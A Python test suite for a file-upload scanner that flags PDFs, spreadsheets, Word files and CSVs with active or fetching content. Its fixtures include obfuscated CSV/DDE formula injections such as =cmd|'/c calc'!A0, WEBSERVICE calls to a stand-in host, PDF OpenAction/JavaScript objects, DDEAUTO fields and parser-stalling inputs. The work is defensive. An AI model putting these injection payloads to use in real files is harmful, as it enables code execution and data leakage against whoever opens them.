"""What runs, fetches or is hidden is found however it is written; what only looks like it passes."""

from __future__ import annotations

import time
import zlib

import pytest

from bilim.storage import problems
from bilim.storage.rules.kinds import recognise
from bilim_engine.problems import Kind
from factories.evidence import PDF, package
from factories.office import SHEETS, WORDS, fields, relations, sheet, with_relation

LIMIT = 20 * 1024 * 1024
_FETCHED, _RUN, _HELD, _ODD, _UNREAD, _NONE = (
    problems.FETCHES,
    problems.RUNS,
    problems.HOLDS_A_FILE,
    problems.ODD_PART,
    problems.NOT_READABLE,
    problems.NOT_OF_KIND,
)
_SCRIPT = b"5 0 <</S/JavaScript/JS(x)>>"
_HEAD = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length 40"


def _pdf(*objects: bytes, catalog: bytes = b"") -> bytes:
    """A PDF of these objects, and a catalogue that says so much more."""
    lines = b"".join(b"%d 0 obj\n%b\nendobj\n" % (number, each) for number, each in enumerate(objects, 5))
    return b"%%PDF-1.5\n1 0 obj\n<</Type/Catalog%b>>\nendobj\n%b%%%%EOF\n" % (catalog, lines)


def _packed(objects: bytes, head: bytes = _HEAD) -> bytes:
    return b"<<%b>>\nstream\r\n%b\nendstream" % (head, zlib.compress(objects))


def _opening(action: bytes) -> bytes:
    return _pdf(action, catalog=b"/OpenAction 5 0 R")


def _headed(head: bytes) -> bytes:
    """A PDF that opens with an object, headed so, behind a harmless one of its number."""
    return _opening(b"null\nendobj\n%b\n<</S/URI/URI(http://x.kg)>>" % head)


def _workbook(names: str) -> bytes:
    return package(("xl/workbook.xml", f"<workbook><definedNames>{names}</definedNames></workbook>".encode()))


def _shown(rule: str) -> bytes:
    return package(SHEETS, ("xl/worksheets/sheet1.xml", f"<worksheet>{rule}</worksheet>".encode()))


# What a reader of PDF passes between two words.
_GAPS = (b" " * 60, b"\0 ", b" %\n", b"%\xff<<>>\r", b"%\n %\n\0")
_FIRSTS = b"/N 1%b/Filter/FlateDecode/Length 40"

_TRICK = b"<</DecodeParms<</Predictor 2/Colors 99>>%\n9 0 obj<<" + _HEAD + b">>\nstream\r\nx\nendstream"
DISGUISED_PDFS: list[tuple[bytes, Kind, str]] = [
    (_pdf() + b"trailer<</Root 1 0 R/Encrypt 9 0 R>>\n%%EOF\n", _NONE, "PDF"),
    (_pdf() + b"trailer<</Root 1 0 R/Encr#79pt 9 0 R>>\n%%EOF\n", _NONE, "PDF"),
    (_pdf(_packed(_SCRIPT)), _RUN, "/JavaScript"),
    (_pdf(_packed(_SCRIPT, _HEAD.replace(b"/Type/ObjStm", b""))), _RUN, "/JavaScript"),
    # What cannot be read is told by its own name.
    (_pdf(b"/XFA " + b"% x\n" * 800 + b"[1]"), _UNREAD, "/XFA"),
    (_pdf(b"/AA null " * 10_002), _UNREAD, "/AA"),
    (_pdf(_packed(_SCRIPT).replace(b"\x78\x9c", b"\x00\x00")), _UNREAD, "ObjStm"),
    (_pdf(_packed(_SCRIPT)[:-20]), _UNREAD, "ObjStm"),
    (
        _pdf(_packed(_SCRIPT, _HEAD.replace(b"/FlateDecode", b"[/ASCIIHexDecode/FlateDecode]"))),
        _UNREAD,
        "ObjStm",
    ),
    (_pdf(_packed(_SCRIPT, _HEAD + b"/Length" + b" " * 3000 + b"9")), _UNREAD, "ObjStm"),
    (_pdf(_packed(b"5 0 [/x]", _HEAD + b"/DecodeParms<</Predictor 12>>")), _UNREAD, "ObjStm"),
    (_pdf(_packed(b"5 0 [/x]", b"/X(5 0 obj<<)" + _HEAD)), _UNREAD, "ObjStm"),
    (_pdf(_TRICK), _UNREAD, "ObjStm"),
    (_opening(b"<</S/URI/URI(http://x.kg)>>"), _FETCHED, "http://x.kg"),
    (_opening(b"<</S/SubmitForm/F(http://x.kg)>>"), _FETCHED, "/SubmitForm"),
    (_opening(b"<</S/ImportData/F(x.fdf)>>"), _FETCHED, "/ImportData"),
    (_opening(b"<</S/GoToR/F(\\\\\\\\server\\\\x.pdf)>>"), _FETCHED, "/GoToR"),
    (_opening(b"<</S/GoToE/T<<>>>>"), _FETCHED, "/GoToE"),
    (_opening(b"<</S/GoTo/D[1 0 R/Fit]/Next<</S/URI/URI(http://x.kg)>>>>"), _FETCHED, "/Next"),
    (_opening(b"<</S/GoTo/S/URI/URI(http://x.kg)>>"), _FETCHED, "/URI"),
    (_opening(b"6 0 R"), _FETCHED, "6 0 R"),
    (_pdf(catalog=b"/OpenAction<</S/URI/URI(http://x.kg)>>"), _FETCHED, "http://x.kg"),
    (_pdf(catalog=b"/Open#41ction<</S/U#52I/URI(http://x.kg)>>"), _FETCHED, "/U#52I"),
    (_pdf(catalog=b"/OpenAction%\n<</S/URI/URI(http://x.kg)>>"), _FETCHED, "/OpenAction"),
    (_pdf(catalog=b"/OpenAction 9 0 R"), _UNREAD, "/OpenAction"),
    (_headed(b"5%\n0 obj"), _UNREAD, "/OpenAction"),
    (_headed(b"5 % 7 0 \n0 obj"), _UNREAD, "/OpenAction"),
    (_headed(b"0" * 20 + b"5 0 obj"), _UNREAD, "/OpenAction"),
    (_headed(b"5" + b" " * 60 + b"0 obj"), _UNREAD, "/OpenAction"),
    (_headed(b"5 0obj"), _UNREAD, "/OpenAction"),
    (_headed(b"5 0 obj"), _FETCHED, "/URI"),
    (_pdf(_packed(b"8 0 <</S/URI>>"), catalog=b"/OpenAction 8 0 R"), _FETCHED, "/URI"),
    (_pdf(_packed(b"8 0 <</OpenAction<</S/URI>>>>")), _FETCHED, "/URI"),
    (_pdf(b"<</Type/Page/AA<</O<</S/URI/URI(http://x.kg)>>>>>>"), _FETCHED, "/AA"),
    (_pdf(b"<</Type/Page/AA 9 0 R>>"), _FETCHED, "/AA"),
    (_pdf(b"<</Type/Page/AA%\n9 0 R>>"), _FETCHED, "/AA"),
    (_pdf(b"<</Type/EmbeddedFile>>"), _HELD, "/EmbeddedFile"),
    (_pdf(catalog=b"/Names<</EmbeddedFiles 9 0 R>>"), _HELD, "/EmbeddedFiles"),
    (_pdf(b"<</Subtype/FileAttachment/FS 9 0 R>>"), _HELD, "/FileAttachment"),
    (_pdf(b"<</Type/Filespec/EF <</F 9 0 R>>>>"), _HELD, "/EF"),
    (_pdf(catalog=b"/AcroForm<</XFA[(template)9 0 R]>>"), _RUN, "/XFA"),
    *((_pdf(b"<</Type/Page/AA%b<</O 9 0 R>>>>" % gap), _FETCHED, "/AA") for gap in _GAPS),
    *((_pdf(b"<</Type/Page/AA%b9%b0%bR>>" % (gap, gap, gap)), _FETCHED, "/AA") for gap in _GAPS),
    *((_pdf(b"<</Type/Filespec/EF%b<</F 9 0 R>>>>" % gap), _HELD, "/EF") for gap in _GAPS),
    *((_pdf(b"<</Type/Filespec/EF%b9 0 R>>" % gap), _HELD, "/EF") for gap in _GAPS),
    *((_pdf(catalog=b"/AcroForm<</XFA%b[9 0 R]>>" % gap), _RUN, "/XFA") for gap in _GAPS),
    *((_pdf(catalog=b"/AcroForm<</XFA%b9 0 R>>" % gap), _RUN, "/XFA") for gap in _GAPS),
    *((_pdf(_packed(_SCRIPT, _FIRSTS % b"/First%b4" % gap)), _UNREAD, "ObjStm") for gap in _GAPS[1:]),
    (_pdf(_packed(_SCRIPT, _FIRSTS % (b"/First" + b" " * 60 + b"4"))), _RUN, "/JavaScript"),
    *((_pdf(_packed(_SCRIPT, _FIRSTS % b"/First%b8 0 R" % gap)), _UNREAD, "ObjStm") for gap in _GAPS),
    (_pdf(_packed(_SCRIPT, _FIRSTS % b"/First 8 0 R/X(endobj>>)/Y<3e>")), _UNREAD, "ObjStm"),
    (_pdf(_packed(_SCRIPT, _FIRSTS % b"/First 8 0 R%>>\n/X<</Y 1>>")), _UNREAD, "ObjStm"),
    (_pdf(_packed(_SCRIPT, _FIRSTS % b"/First 8 0 R" + b"/X 1" * 900)), _UNREAD, "ObjStm"),
    (_pdf(b"<</Type/Page/AA" + b" " * 3000 + b"<</O 9 0 R>>>>"), _UNREAD, "/AA"),
    (_pdf(b"<</A<</S/ImportData/F(x.fdf)>>>>"), _FETCHED, "/ImportData"),
    (_pdf(b"<</A<</S/GoToE/T<<>>>>>>"), _FETCHED, "/GoToE"),
    (_pdf(b"<</A<</S/Rendition/JS(x)>>>>"), _RUN, "/Rendition"),
    (_pdf(b"<</Subtype/Movie>>"), _RUN, "/Movie"),
    (
        _pdf(b"<</Length 0/F(http://x.kg/x)/Filter/FlateDecode>>\nstream\nendstream"),
        _FETCHED,
        "http://x.kg/x",
    ),
    (_pdf(b"<</Length 0/F 9 0 R/FFilter/FlateDecode>>stream\nendstream"), _FETCHED, "/FFilter"),
]
ORDINARY_PDFS = [
    _opening(b"[1 0 R /XYZ null null 0]"),
    _opening(b"<</Type/Action/S/GoTo/D[1 0 R/Fit]>>"),
    _opening(b"<< /S /GoTo /D (chapter \\(1\\)) >>"),
    _pdf(catalog=b"/OpenAction [1 0 R /FitH 842]/PageMode/UseOutlines"),
    _pdf(catalog=b"/OpenAction null"),
    _pdf(_packed(b"8 0 [1 0 R/Fit]"), catalog=b"/OpenAction 8 0 R"),
    _pdf(b"<</Subtype/Link/A<</S/URI/URI(https://edu.gov.kg)>>>>", b"<</Title(x)/First 6 0 R/AA<<>>>>"),
    _pdf(
        b"<</Title(a \\( b)/First 6 0 R/Last 6 0 R/Count 1>>",
        b"<</First%\n6 0 R/Title<feff>>>",
        b"<</EF null>>",
    ),
    _pdf(b"<</Subtype/Link/F 4/A<</S/GoToR/F(other.pdf)>>>>", b"<</Length 1>>stream\nx\nendstream"),
    _pdf(b"<</Length 8>>stream\n/AA /EF8 /XFA8 \nendstream"),
    _pdf(b"<</FirstChar 32/First 12 0 R/EncryptMetadata true>>"),
    _pdf(_packed(b"8 0 []", b"\n/Type /ObjStm\n/N 1\n/First 4\n/Length 9 0 R \n/Filter [/FlateDecode]\n")),
]
_CALL = "http://x.kg"
DISGUISED_FORMULAS = [
    sheet(f'&#87;EBSERVICE("{_CALL}")'),
    sheet(f'&#x57;EBSERVICE("{_CALL}")'),
    sheet("cmd&#00124;&apos;/c calc&apos;&#33;A1"),
    sheet("cmd&#00000000124;&apos;/c calc&apos;&#x00000021;A1"),
    _shown(f'<f ca=">">WEBSERVICE("{_CALL}")</f>'),
    _shown(f'<ж:f>WEBSERVICE("{_CALL}")</ж:f>'),
    _shown(f'<cfRule><formula>WEBSERVICE("{_CALL}")</formula></cfRule>'),
    _shown(f'<calculatedColumnFormula>WEBSERVICE("{_CALL}")</calculatedColumnFormula>'),
    _workbook(f'<definedName name="x">WEBSERVICE("{_CALL}")</definedName>'),
    _workbook(f'<definedName name="x">&#87;EB<![CDATA[SERVICE]]>("{_CALL}")</definedName>'),
]
CUT_FORMULAS = [
    "<f><![CDATA[WEBSERVICE(A1)]]></f>",
    "<f>WEB<!-- -->SERVICE(A1)</f>",
    "<f>WEB<?x?>SERVICE(A1)</f>",
]
ORDINARY_SHEETS = [
    sheet("IF(A1&gt;0,&quot;жок|бар!&quot;,&apos;a|b&apos;!A1)"),
    sheet("A1&amp;&#10;B1"),
    _shown("<!-- written by a library --><f>SUM(A1:A3)</f><v>1</v>"),
    _workbook('<definedName name="total">Sheet1!$A$1:$B$2</definedName>'),
    _shown('<f t="shared" si="0"/><c t="str"><v>webservice(x)</v></c>'),
]
SEPARATORS = ("\t", "\n", "\u00a0", '"', "\u2003", "\\")
DISGUISED_TABLES = [
    # A lone return ends a line for spreadsheets; a topic may be as long as it likes.
    (b"a\r=cmd|' /C calc'!A0\r", _FETCHED, "cmd"),
    (b"a,b\n1,=cmd|'" + b"a" * 301 + b"'!A0\n", _FETCHED, "cmd"),
    (b"a,b\n1,=cmd|" + b"a" * 301 + b"!A0\n", _FETCHED, "cmd"),
    # A stroke within a topic is written twice; between marks of quotation a cell goes on in the next line.
    (b"a,b\n1,=cmd|'/c ''calc'''!A0\n", _FETCHED, "cmd"),
    (b"a,b\n1,=cmd|''''!A0\n", _FETCHED, "cmd"),
    (b"a,b\n1,\"=cmd|'/c\ncalc'!A0\"\n", _FETCHED, "cmd"),
    (b'a,b\n1,"=WEBSERVICE(\n""http://x"")"\n', _FETCHED, "WEBSERVICE("),
    (b'a,b\n1,"=WEBSERVICE\r\n(\t""http://x"")"\n', _FETCHED, "WEBSERVICE"),
    (b"a,b\n1,\"=SUM(1,2)+cmd|'/c calc,x'!A1\"\n", _FETCHED, "cmd"),
    (b"a;b\n1;=cmd|'/c calc;x'!A1\n", _FETCHED, "cmd"),
    (b"sep=:\na:=cmd|'/c calc'!A1\n", _FETCHED, "cmd"),
    (b"\"sep=|\"\r\na;=cmd|'/c calc'!A1\r\n", _FETCHED, "cmd"),
    (b'a;"=WEBSERVICE(\n""http://x/""&A1)"\n', _FETCHED, "WEBSERVICE("),
    (b"http://x/;=WEBSERVICE(A:A)\n", _FETCHED, "WEBSERVICE("),
    (b"http://x/;=WEBSERVICE(1:1)\n", _FETCHED, "WEBSERVICE("),
    (b'a;"=WEBSERVICE(_xlfn.CONCAT(""http://x/""))"\n', _FETCHED, "WEBSERVICE("),
    (b'a;"=DDE(""soffice"",""x"",""y"")"\n', _FETCHED, "DDE("),
    (b'a;"=IMPORTDATA(""http://x"")"\n', _FETCHED, "IMPORTDATA("),
    ('a;=ВЕБСЛУЖБА("http://x")\n'.encode(), _FETCHED, "ВЕБСЛУЖБА("),
    ("a;=WEBSERVICE(СЦЕПИТЬ(A1;B1))\n".encode(), _FETCHED, "WEBSERVICE("),
    (b"a,b\n1,=MSEXCEL|x!R1\n", _FETCHED, "MSEXCEL"),
    (b'a;b\n1;-image("http://x.kg/x.png")\n', _FETCHED, "image("),
    (b'a,b\n1,"=1+WEBSERVICE(""http://x.kg"")"\n', _FETCHED, "WEBSERVICE("),
    (b"a,b\n1,@webservice(+$A$1)\n", _FETCHED, "webservice("),
    (b'a,b\n1,"=IMAGE(CONCAT(A1,B1))"\n', _FETCHED, "IMAGE("),
    (b"From: <Saved by Blink>\r\nSubject: x\r\n y\r\nMIME-Version: 1.0\r\n\r\nx", problems.NO_TABLE, "MHTML"),
    (b"Content-Type: multipart/related\n\nx", problems.NO_TABLE, "MHTML"),
    (b"x\n" * 400 + PDF, _NONE, "CSV"),
]
ORDINARY_TABLES = [
    "бирдик,эскертүү\nноокат,- Мектеп | кабыл алуу!\n",
    "unit,note\nnookat,-image (1)\nosh,+ call (0312 62-50-11)\nalay,- call (office)\n",
    "unit;note\nnookat;-5 | жок;Ооба!\n",
    "sep=;\nunit;note\nnookat;- call (office)\n",
    "unit;note\nnookat;- Import (2024)\n",
    "Received: 12;13\nnookat;1\n",
    "From: Osh,To: Nookat\n1,2\n",
    'a,b\n1,"- the call (see ""A""), then"\n',
]


@pytest.mark.parametrize(
    "place", ["s.xml", *(f"{each}/s.xml" for each in ("customXml", "docProps", "_xmlsignatures", "package"))]
)
def test_a_sheet_is_read_wherever_a_relation_may_find_it(place: str) -> None:
    calls = b'<worksheet><f>WEBSERVICE("http://x.kg/"&amp;A2)</f></worksheet>'
    (found,) = recognise(package(SHEETS, (place, calls)), "table.xlsx", LIMIT)[1]
    assert found.kind is _FETCHED


def _found(content: bytes, name: str) -> list[tuple[Kind, str]]:
    return [(each.kind, each.render("en")) for each in recognise(content, name, LIMIT)[1]]


@pytest.mark.parametrize(("content", "kind", "what"), DISGUISED_PDFS)
def test_a_pdf_that_hides_or_does_something_is_refused(content: bytes, kind: Kind, what: str) -> None:
    [(found, words)] = _found(content, "return.pdf")
    assert found == kind
    assert what in words


@pytest.mark.parametrize("content", ORDINARY_PDFS)
def test_a_pdf_that_opens_at_a_place_or_holds_links_passes(content: bytes) -> None:
    assert _found(content, "return.pdf") == []


@pytest.mark.parametrize("content", DISGUISED_FORMULAS)
def test_a_formula_that_calls_is_found_however_it_is_written(content: bytes) -> None:
    assert [kind for kind, _words in _found(content, "table.xlsx")] == [_FETCHED]


@pytest.mark.parametrize("formula", CUT_FORMULAS)
def test_a_formula_cut_by_what_no_program_writes_is_refused(formula: str) -> None:
    assert [kind for kind, _words in _found(_shown(formula), "table.xlsx")] == [_ODD]


@pytest.mark.parametrize("content", ORDINARY_SHEETS)
def test_ordinary_formulas_and_names_pass(content: bytes) -> None:
    assert _found(content, "table.xlsx") == []


@pytest.mark.parametrize("separator", SEPARATORS)
@pytest.mark.parametrize("name", ["LINK", "DdeAuto", "INCLUDETEXT", "database"])
def test_a_field_is_told_by_its_name_whatever_stands_behind(name: str, separator: str) -> None:
    content = package(("word/document.xml", fields(f"{separator}{name}{separator}", "x y ")))
    assert [kind for kind, _words in _found(content, "letter.docx")] == [_FETCHED]


@pytest.mark.parametrize("words", [" LINKED x ", " HYPERLINK x ", " REF LINK ", " TOC "])
def test_a_field_of_another_name_passes(words: str) -> None:
    assert _found(package(("word/document.xml", fields(words))), "letter.docx") == []


@pytest.mark.parametrize(("content", "kind", "what"), DISGUISED_TABLES)
def test_a_cell_that_calls_is_found_beyond_separators(content: bytes, kind: Kind, what: str) -> None:
    [(found, words)] = _found(content, "rows.csv")
    assert found == kind
    assert what in words


@pytest.mark.parametrize("folder", ["sheets", "word", "XLS", "xl2"])
def test_a_part_outside_the_folders_of_its_kind_is_not_taken(folder: str) -> None:
    """A sheet is found by its relation, wherever it lies: there nobody would look for formulas."""
    content = package(SHEETS, (f"{folder}/s1.xml", b"<worksheet><f>cmd|'/c'!A1</f></worksheet>"))
    assert [kind for kind, _words in _found(content, "table.xlsx")] == [_ODD]


@pytest.mark.parametrize(
    "part", ["worksheets/s1.png", "worksheets/s1.sigs", "worksheets/printerSettings1.bin", "media/image1.svg"]
)
@pytest.mark.parametrize("head", [b"", b'\xef\xbb\xbf<?xml version="1.0"?>\n', b" \n<!-- <svg -->"])
def test_a_sheet_is_read_whatever_its_part_is_called(part: str, head: bytes) -> None:
    """What a part is says the list of types, and a relation leads to it: its ending says nothing."""
    sheet = head + b"<worksheet><f>cmd|'/c'!A1</f></worksheet>"
    for content in (sheet, sheet.decode("utf-8-sig").encode("utf-16")):
        assert [kind for kind, _words in _found(package(SHEETS, (f"xl/{part}", content)), "t.xlsx")] == [
            _FETCHED
        ]


def test_a_field_is_read_whatever_its_part_is_called() -> None:
    content = package(WORDS, ("word/media/header.jpg", fields(" DDEAUTO c:\\x ")))
    assert [kind for kind, _words in _found(content, "letter.docx")] == [_FETCHED]


def test_a_name_is_read_in_whatever_part_a_relation_calls_the_workbook() -> None:
    book = b"<workbook><definedName name=\"x\">cmd|'/c'!A1</definedName></workbook>"
    for part in ("xl/other.xml", "xl/worksheets/other.png"):
        content = package(SHEETS, ("_rels/.rels", relations(("officeDocument", part, False))), (part, book))
        assert [kind for kind, _words in _found(content, "table.xlsx")] == [_FETCHED]


@pytest.mark.parametrize(
    "drawing",
    [
        b"<svg/>",
        b'<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "SVG 1.1" "x.dtd">\n<svg xmlns="s"></svg>',
        b"\xef\xbb\xbf<!-- made by hand -->\n<svg:svg/>",
    ],
)
def test_a_drawing_passes_as_one(drawing: bytes) -> None:
    assert _found(package(WORDS, ("word/media/image1.svg", drawing)), "letter.docx") == []


def test_a_field_in_a_part_of_properties_is_found() -> None:
    content = package(WORDS, ("package/core.psmdcp", fields(" DDEAUTO c:\\x ")))
    assert [kind for kind, _words in _found(content, "letter.docx")] == [_FETCHED]


@pytest.mark.parametrize(
    "target", ["file:///C:/../../evil/x.dotm", "/home//evil/x.dotm", "C:\\a\\\\evil\\x.dotm", "/users/../x"]
)
def test_a_template_that_only_begins_in_the_readers_folders_is_fetched(target: str) -> None:
    relations = with_relation("attachedTemplate", target)
    assert [kind for kind, _words in _found(relations, "letter.docx")] == [_FETCHED]


@pytest.mark.parametrize("text", ORDINARY_TABLES)
def test_words_that_look_like_a_call_pass(text: str) -> None:
    assert _found(text.encode(), "rows.csv") == []


_EMPTY = zlib.compress(b"")
_STREAM = b"\n5 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("return.pdf", _pdf(b"/ObjStm stream\n" * 600_000 + b"endstream")),
        ("return.pdf", _pdf((_STREAM + _EMPTY) * 100_000)),
        ("return.pdf", _pdf(b"/First 1 " * 1_000_000)),
        ("return.pdf", _pdf(b"/OpenAction[]" * 500_000)),
        ("return.pdf", _pdf(b"5 0 obj null " * 500_000, catalog=b"/OpenAction 5 0 R")),
        ("return.pdf", _pdf(b"null\n5 0 obj " * 500_000, catalog=b"/OpenAction 5 0 R")),
        ("return.pdf", _pdf(b"null" + b"\n5 0\t" * 1_000_000, catalog=b"/OpenAction 5 0 R")),
        ("return.pdf", _pdf(b"/AA<<" * 1_000_000 + b" " * 1_000_000)),
        ("return.pdf", _pdf(b"/AA  " * 1_000_000)),
        ("return.pdf", _pdf(b"/AA<<>>" * 2_000_000)),
        ("return.pdf", _pdf(_packed(b"1 0 " + b"/AA " * 7_000_000))),
        ("return.pdf", _pdf((b"/First 1 0 R" * 70 + b"(" * 500 + b")" * 500 + b">>") * 5_000)),
        ("return.pdf", _pdf(b"<</First 1 0 R>>" * 1_000_000)),
        ("return.pdf", _pdf(b"/F(a" * 4_000_000)),
        ("return.pdf", _pdf(b"/EF%" * 4_000_000)),
        ("table.xlsx", _shown("<f " * 500_000 + "'" * 500_000 + "<f>'")),
        ("table.xlsx", _shown("<f>" + "&#" * 1_000_000 + "</f>")),
        ("table.xlsx", _shown("<f>" + "&#" + "0" * 1_000_000 + "</f>")),
        ("table.xlsx", _workbook("<definedName>" + "\n" * 1_000_000 + "</definedName>")),
        ("letter.docx", package(WORDS, ("word/a.xml", fields("\n" * 1_000_000)))),
        ("rows.csv", b"a" + b"\n" * 5_000_000),
        ("rows.csv", b"a," + b" " * 3_000_000),
        ("rows.csv", b"=call(" + b" " * 1_000_000),
        ("rows.csv", b"=|'" * 1_000_000),
        ("rows.csv", b"=" + b"call(" * 1_000_000),
        ("rows.csv", b',"=' * 1_000_000),
        ("rows.csv", b',"=""' * 1_000_000),
        ("rows.csv", b"a:\n" * 1_000_000),
    ],
)
def test_no_disguise_takes_long(name: str, content: bytes) -> None:
    begun = time.process_time()
    recognise(content, name, LIMIT)
    assert time.process_time() - begun < 5
